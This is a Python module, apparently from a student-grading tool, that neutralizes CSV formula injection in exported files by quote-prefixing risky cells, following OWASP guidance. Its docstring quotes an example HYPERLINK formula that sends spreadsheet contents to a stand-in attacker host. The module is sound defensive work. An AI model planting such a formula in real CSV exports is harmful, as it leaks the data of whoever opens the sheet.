"""CSV cells that a spreadsheet cannot run: the one neutralizer of every CSV tito writes.

Student ids, names, reasons and flag messages are student text. Excel, LibreOffice and
Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil.example?"&A1,"x")` sends the sheet away), and treat a leading
tab, carriage return or NUL the same way. OWASP's rule for CSV injection (and ASVS 1.2.10):
prefix such a cell with a single quote, which spreadsheets show as text. A formula
character after leading whitespace (`" =1+1"`) counts too: some spreadsheets trim it.

Numbers (int, float) are tito's own columns (scores, points, penalties) and stay numbers:
`-5.0` is a score, not a formula. Every other value is text.

Write every CSV with `writer(stream)`: rows go through `row`, in the csv module's default
(RFC 4180) dialect, whose CRLF line end makes it quote a cell holding a bare `\r` or `\n`
(with a `\n` line end a bare `\r` is left unquoted, and a reader starts a new row there,
where `\r=1+1` would be a formula at the start of a row).
"""

from __future__ import annotations

import csv
import numbers
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r", "\0")


def cell(value: object) -> object:
    """`value` as a safe CSV cell: numbers unchanged, None empty, text that a spreadsheet
    would read as a formula prefixed with `'`."""
    if isinstance(value, numbers.Real) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    if text.startswith(CONTROL_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def row(values: Iterable[object]) -> list[object]:
    """Every value of a CSV row through `cell`."""
    return [cell(value) for value in values]


class SafeWriter:
    """`csv.writer` whose every row goes through `row`."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(row(values))


def writer(stream: TextIO) -> SafeWriter:
    """A CSV writer on `stream` (a file opened with newline="", or a StringIO) that writes
    no formula and keeps every cell in its row."""
    return SafeWriter(stream)
